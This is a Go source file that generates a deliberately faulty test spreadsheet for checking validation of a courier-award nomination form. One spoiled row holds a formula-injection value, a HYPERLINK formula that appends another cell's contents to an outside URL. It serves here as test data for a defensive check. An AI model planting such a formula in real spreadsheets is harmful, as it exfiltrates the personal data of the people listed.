package main

import "strings"

// mistake is what is wrong with one row of entries-bad.xlsx.
type mistake struct {
	column string // heading; "" where the whole row is wrong
	what   string // for the README
	spoil  func(*row)
}

func mistakes() []mistake {
	return []mistake{
		{"姓名", "name missing", func(r *row) { r.name = "" }},
		{"姓名", "name of blanks only", func(r *row) { r.name = " 　" }},
		{"姓名", "a formula typed as text: `=HYPERLINK(…)`", func(r *row) { r.name = `=HYPERLINK("http://example.org/?"&B4,"点击查看")` }},
		{"工作单位", "employer missing", func(r *row) { r.employer = "" }},
		{"所在市州", "city missing", func(r *row) { r.region = "" }},
		{"性别", "neither 男 nor 女: `先生`", func(r *row) { r.gender = "先生" }},
		{"类别", "not a category of the rulebook: `飞行员`", func(r *row) { r.category = "飞行员" }},
		{"从业年限", "not a number: `很多年`", func(r *row) { r.years = "很多年" }},
		{"从业年限", "negative: `-3`", func(r *row) { r.years = -3 }},
		{"从业年限", "longer than a life: `200`", func(r *row) { r.years = 200 }},
		{"主要事迹", "deeds missing", func(r *row) { r.deeds = "" }},
		{"主要事迹", "deeds of more than 5,000 characters", func(r *row) {
			r.deeds = strings.Repeat("该同志爱岗敬业、任劳任怨、乐于助人。", 300)
		}},
		{"照片", "a text file renamed to .png", func(r *row) { r.photo = []byte(notPicture) }},
		{"", "an exact repeat of row 4", nil},
	}
}

const notPicture = "这是一份改了扩展名的文本文件，不是照片。\n"

// badBook is entries-bad.xlsx: a good row before each bad one.
func badBook(rows []row) ([]byte, error) {
	b, err := newBook("第二届“陇原最美快递员”推荐人选汇总表（待修改）", "填报单位：某市推荐小组")
	if err != nil {
		return nil, err
	}
	for i, m := range mistakes() {
		if _, err := b.add(rows[2*i]); err != nil {
			return nil, err
		}
		bad := rows[2*i+1]
		if m.spoil == nil {
			bad = rows[0]
		}
		if err := b.addBad(bad, m); err != nil {
			return nil, err
		}
	}
	if err := b.note(note); err != nil {
		return nil, err
	}
	return b.bytes()
}

// addBad types a spoiled row. The writer takes real pictures only, so a false
// one is put in a real one's place.
func (b *book) addBad(r row, m mistake) error {
	if m.spoil == nil {
		_, err := b.add(r)
		return err
	}
	photo := r.photo
	m.spoil(&r)
	forged := r.photo
	if string(forged) == string(photo) {
		_, err := b.add(r)
		return err
	}
	r.photo, r.format = photo, ".png"
	if _, err := b.add(r); err != nil {
		return err
	}
	b.Pkg.Range(func(name, body any) bool {
		if part, ok := body.([]byte); ok && string(part) == string(photo) {
			b.Pkg.Store(name, forged)
			return false
		}
		return true
	})
	return nil
}

// badRow is where the mistake i stands in the sheet.
func badRow(i int) int { return firstRow + 2*i + 1 }
